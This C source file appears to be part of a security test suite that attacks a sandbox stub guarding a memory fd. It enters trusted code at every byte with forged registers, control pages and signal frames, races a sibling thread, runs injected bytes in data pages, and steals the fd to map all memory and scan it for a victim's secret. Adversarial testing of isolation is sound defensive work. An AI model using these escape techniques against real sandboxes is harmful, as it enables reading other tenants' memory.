// SPDX-License-Identifier: GPL-2.0-only
/*
 * The fd window: a stub that parks can map by the memory fd only while trusted code
 * runs there. So the attack enters that code at every byte, with registers, a stack
 * and control data of its own, to make it map all memory for the guest.
 *
 * The verdict depends on what the guest can then read where it has mapped nothing.
 */
#include "hostile.h"

static uintptr_t window;	/* PROT_NONE for the guest kernel */
static size_t window_size;
static long window_offset;
static int window_prot = PROT_READ;
static void (*check)(void);	/* tests what can be read */

/* The contents of the registers, */
enum regs { MAP, ANSWER, RECEIVE, LIMIT, CLOSE, UNMAP, PROTECT, ZEROS, REGS };
/* and of the control page. */
enum fill { AS_IS, BACK, BATCH, FD_BATCH, UNMAP_ALL, OWN_MESSAGE, GARBAGE, FILLS };

struct try {
	uintptr_t entry;
	enum regs regs;
	enum fill fill;
	int fd;
	unsigned int times;
	bool sibling;
};

/* The attacker's batch, also for code that takes its address from a register. */
static uint64_t own_batch[64][4];

static void fill_batch(uint64_t (*batch)[4], size_t n, int fd)
{
	uint64_t prot = (uint32_t)control.entry[3];

	/* the fourth word has protection and fd in its halves; a genuine call has fd 1 */
	while (n--) {
		batch[n][0] = window;
		batch[n][1] = window_size;
		batch[n][2] = (uint64_t)window_offset;
		batch[n][3] = prot == 1 ? (uint64_t)window_prot << 32 | (uint32_t)fd :
					  (uint64_t)fd << 32 | (uint32_t)window_prot;
	}
}

static struct {
	struct msghdr msg;
	struct iovec iov;
	char byte;
	char buf[CMSG_SPACE(4 * sizeof(int))] __attribute__((aligned(16)));
} own;

static void fill_message(void)
{
	own.iov = (struct iovec){ &own.byte, 1 };
	own.msg = (struct msghdr){
		.msg_iov = &own.iov,
		.msg_iovlen = 1,
		.msg_control = own.buf,
		.msg_controllen = sizeof(own.buf),
	};
}

static void fill_registers(struct host_call *call, const struct try *t)
{
	const long map[6] = { (long)window, (long)window_size, window_prot,
			      MAP_SHARED | MAP_FIXED, t->fd, window_offset };
	const long receive[6] = { 0, (long)&own.msg, MSG_DONTWAIT };
	static const struct rlimit none = { RLIM_INFINITY, RLIM_INFINITY };
	const long limit[6] = { 0, RLIMIT_AS, (long)&none };
	const long close[6] = { 5, UINT_MAX, 0 };
	const long unmap[6] = { (long)stub.data, PAGE };
	const long protect[6] = { (long)window, (long)window_size, window_prot };
	static const long zeros[6];
	static const struct {
		long nr;
	} call_of[REGS] = {
		[MAP] = { SYS_mmap }, [ANSWER] = { 1 }, [RECEIVE] = { SYS_recvmsg },
		[LIMIT] = { SYS_prlimit64 }, [CLOSE] = { SYS_close_range }, [UNMAP] = { SYS_munmap },
		[PROTECT] = { SYS_mprotect },
	};
	const long *const args[REGS] = { map, map, receive, limit, close, unmap, protect,
					  zeros };
	uint64_t batch = (uint64_t)own_batch;

	prepare_call(call, t->entry, call_of[t->regs].nr, args[t->regs]);
	if (t->regs == ZEROS)
		return;
	call->r12 = call->r13 = call->r14 = call->r15 = call->rbp = batch;
	call->rbx = t->regs == ANSWER ? 1 : batch;
}

static void fill_control(const struct host_call *call, const struct try *t)
{
	switch (t->fill) {
	case AS_IS:
	case FILLS:
		return;
	case BACK:
		prefill(control.back, 0, call);
		return;
	case BATCH:
	case FD_BATCH:
		fill_batch((uint64_t (*)[4])control.batch, 1, t->fd);
		prefill(t->fill == BATCH ? control.back : control.with_fd, 1, call);
		return;
	case UNMAP_ALL:
		fill_batch((uint64_t (*)[4])control.batch, 1, 0);
		control.batch[0] = 16 * PAGE;
		control.batch[1] = stub.code - 16 * PAGE;
		control.batch[3] = 0;
		prefill(control.back, 1, call);
		return;
	case OWN_MESSAGE:
		if (control.message)
			memcpy(control.message, &own.msg, sizeof(own.msg));
		prefill(control.with_fd, 1, call);
		return;
	case GARBAGE:
		memset((void *)stub.data, 0xff, PAGE);
		return;
	}
}

static void look(void)
{
	struct sigaction old, sa = { .sa_handler = probe_fault };
	size_t secrets;

	sigaction(SIGSEGV, &sa, &old);
	if (readable(window)) {
		secrets = readable(window + window_size - PAGE) ?
				  scan_for_secret(window, window_size) : 0;
		set_verdict(BREACHED, "code+%#x mapped what is not the guest's, the secret in %zu frames",
			    shared->at, secrets);
		_exit(0);
	}
	sigaction(SIGSEGV, &old, NULL);
}

static char stack_of_sibling[8 * PAGE] __attribute__((aligned(16)));

/* A sibling whose faults make the kernel map all the time. */
static int churn(void *arg)
{
	long page;

	(void)arg;
	while (!shared->stop) {
		page = syscall(SYS_mmap, NULL, 2 * PAGE, PROT_READ | PROT_WRITE,
			       MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		*(volatile char *)page = 1;
		*(volatile char *)(page + PAGE) = 1;
		syscall(SYS_munmap, page, 2 * PAGE);
	}
	return 0;
}

/* The entry came back, so perhaps the stub has no limit any more. */
static void map_after_all(const struct try *t)
{
	struct try map = *t;
	struct host_call call;
	unsigned int s;

	map.regs = MAP;
	for (s = 0; s < stub.nsites; s++) {
		for (map.fd = 1; map.fd <= MEMORY_FDS; map.fd++) {
			map.entry = stub.site[s];
			fill_registers(&call, &map);
			fill_control(&call, &map);
			host_call_raw(&call);
			check();
		}
	}
}

static void try_entry(void *arg)
{
	const struct try *t = arg;
	struct host_call call;
	unsigned int i;

	limit_child();
	if (t->sibling &&
	    clone(churn, stack_of_sibling + sizeof(stack_of_sibling),
		  CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD,
		  NULL) < 0)
		_exit(3);
	for (i = 0; i < t->times; i++) {
		if (t->sibling)
			sched_yield();
		fill_registers(&call, t);
		fill_control(&call, t);
		host_call_raw(&call);
		shared->counter++;
		check();
		if (t->regs == LIMIT)
			map_after_all(t);
	}
	_exit(0);
}

static unsigned int tried;

static void enter(struct try t)
{
	int status;

	shared->at = (unsigned int)(t.entry - stub.code);
	status = in_child(try_entry, &t);
	tried++;
	if (shared->kind == BREACHED)
		_exit(0);
	if (WIFEXITED(status) && WEXITSTATUS(status) == 3)
		conclude(INCONCLUSIVE, "no sibling");
}

/* Enters each byte of the code; behind it there are only zeros. */
static void enter_everywhere(void)
{
	static const struct {
		enum regs regs;
		enum fill fill;
	} ways[] = {
		{ MAP, FD_BATCH }, { MAP, BACK }, { ANSWER, FD_BATCH },
		{ RECEIVE, OWN_MESSAGE }, { LIMIT, FD_BATCH }, { CLOSE, BATCH },
		{ PROTECT, BATCH },
	};
	uintptr_t entry;
	size_t i, n;

	for (entry = stub.code; entry < stub.data; entry++) {
		n = entry < stub.code_end ? ARRAY_SIZE(ways) : entry % 8 == 0;
		step("entering the stub's page at %#lx", entry - stub.code);
		for (i = 0; i < n; i++)
			enter((struct try){ entry, ways[i].regs, ways[i].fill,
					    (int)(tried % MEMORY_FDS) + 1, 1, false });
	}
}

/* Enters at and behind each site, in all ways, again and again, and with a sibling. */
static void enter_calls(bool sibling)
{
	unsigned int s, behind, way;
	struct try t = { .times = 3, .sibling = sibling };

	for (s = 0; s < stub.nsites; s++) {
		step("entering around %#lx%s", stub.site[s] - stub.code,
		     sibling ? " with a sibling" : "");
		for (behind = 0; behind <= 2; behind += 2) {
			for (way = 0; way < REGS * FILLS; way++) {
				t.entry = stub.site[s] + behind;
				t.regs = way % REGS;
				t.fill = way / REGS;
				/* the others end the stub at once */
				if (sibling && (t.regs > RECEIVE || t.fill == AS_IS ||
						t.fill == GARBAGE || t.fill == UNMAP_ALL))
					continue;
				t.fd = (int)(tried % MEMORY_FDS) + 1;
				enter(t);
			}
		}
	}
}

#define FAULTS	40

/*
 * Parks with page faults by hand: the kernel queues a batch that maps, and the trusted
 * code runs it with the attacker's flags and with signals open.
 */
static void try_faults(void *arg)
{
	struct try t = *(const struct try *)arg;
	static const uint64_t eflags[] = { 0x202, 0x302, 0x40202, 0x4202, 0x602 };
	/* not the next page: that fault may have mapped it ahead */
	uintptr_t page = reserve(2 * FAULTS * PAGE);
	greg_t *regs = park.frame->uc_mcontext.gregs;
	struct host_call call;
	int i;

	limit_child();
	for (i = 0; i < FAULTS; i++, page += 2 * PAGE) {
		make_park_frame((uintptr_t)landing);
		regs[REG_TRAPNO] = 14;
		regs[REG_ERR] = 6;
		regs[REG_CR2] = (greg_t)page;
		/* the other flags end the stub: last */
		forge_park_at(t.fill == AS_IS ? stub.code : park.site,
			      eflags[i == FAULTS - 1 ? t.regs % ARRAY_SIZE(eflags) : 0],
			      SIGSEGV, (uint64_t)park_siginfo(), (uint64_t)park.frame);
		shared->counter++;
		look();
	}
	t.regs = MAP;
	fill_registers(&call, &t);
	prefill(control.back, 0, &call);
	host_call_raw(&call);
	look();
	_exit(0);
}

static void fault_by_hand(void)
{
	struct try t = { .times = 1 };
	unsigned int s, way;

	step("handing over page faults");
	for (s = 0; s < stub.nsites; s++) {
		for (way = 0; way < 5 * MEMORY_FDS; way++) {
			t.entry = stub.site[s];
			t.regs = way / MEMORY_FDS;
			t.fd = (int)(way % MEMORY_FDS) + 1;
			t.fill = s % 2 ? AS_IS : BACK;
			shared->at = (unsigned int)(t.entry - stub.code);
			in_child(try_faults, &t);
			tried++;
			if (shared->kind == BREACHED)
				_exit(0);
		}
	}
}

/* The guest can write to the data pages: they must not be executable. */
static void run_data(void *arg)
{
	static const unsigned char code[] = { 0x90, 0x0f, 0x05, 0xc3 };
	static const long none[6];
	struct host_call call;

	limit_child();
	prepare_call(&call, (uintptr_t)arg, SYS_getpid, none);
	memcpy(arg, code, sizeof(code));
	host_call_raw(&call);
	set_verdict(BREACHED, "ran code in the stub's data at data+%#lx",
		    (uintptr_t)arg - stub.data);
	_exit(0);
}

static void enter_data(void)
{
	uintptr_t p;

	step("running the stub's data");
	for (p = stub.data; p < stub.end; p += PAGE / 8) {
		in_child(run_data, (void *)p);
		if (shared->kind == BREACHED)
			_exit(0);
	}
}

/* Steals the fd of a stub that reports through memory, by a forged report. */
static void take_fd(void)
{
	struct frame_grant grant;
	uintptr_t page;
	long ret;

	prepare_theft();
	/* with the fd it may not live long: report by one store */
	describe("took the memory fd with the stub's own recvmsg");
	page = steal_fd_somewhere(window_size, &grant);
	shared->kind = BREACHED;
	step("mapping all memory with fd %d", grant.fd);
	ret = host_mmap(page, window_size, PROT_READ, grant.fd, 0);
	if (ret == (long)page && host_has(page + PAGE))
		conclude(BREACHED, "took the memory fd, mapped all memory, read the victim's secret in %zu frames",
			 scan_for_secret(page, window_size));
	conclude(BREACHED, "took the memory fd with the stub's own recvmsg; mmap of all memory: %s",
		 outcome(ret, page));
}

void map_everywhere(uintptr_t addr, size_t size, int prot, long offset,
		    void (*checked)(void))
{
	struct try t = { .times = 1 };
	unsigned int s, way;

	window = addr;
	window_size = size;
	window_prot = prot;
	window_offset = offset;
	check = checked;
	for (s = 0; s < stub.nsites; s++) {
		for (way = 0; way < 4 * MEMORY_FDS; way++) {
			unsigned int how = way / MEMORY_FDS;

			t.fd = (int)(way % MEMORY_FDS) + 1;
			t.entry = stub.site[s] + how / 2 * 2;
			t.regs = how / 2 ? ANSWER : MAP;
			t.fill = how % 2 ? FD_BATCH : BATCH;
			enter(t);
		}
		/* an existing mapping, with other rights */
		enter((struct try){ stub.site[s], PROTECT, BATCH, 0, 1, false });
		enter((struct try){ stub.site[s] + 2, ANSWER, BATCH, 0, 1, false });
	}
}

void fd_window(void)
{
	void *p;

	check = look;
	window_size = memory_size();
	if (find_report())
		take_fd();
	if (!find_control())
		conclude(INCONCLUSIVE, "what the stub's code reads was not found");
	if (!find_park())
		conclude(INCONCLUSIVE, "the park was not found");
	p = mmap(NULL, window_size, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (p == MAP_FAILED)
		conclude(INCONCLUSIVE, "mmap: %s", strerror(errno));
	window = (uintptr_t)p;
	fill_batch(own_batch, ARRAY_SIZE(own_batch), 1);
	fill_message();
	enter_data();
	enter_calls(false);
	enter_calls(true);
	fault_by_hand();
	enter_everywhere();
	if (!shared->counter)
		conclude(INCONCLUSIVE, "control never came back, so nothing was tried");
	conclude(BLOCKED, "entered %u times, at each of %lu bytes, came back %lu times: nothing is mapped",
		 tried, stub.code_end - stub.code, shared->counter);
}
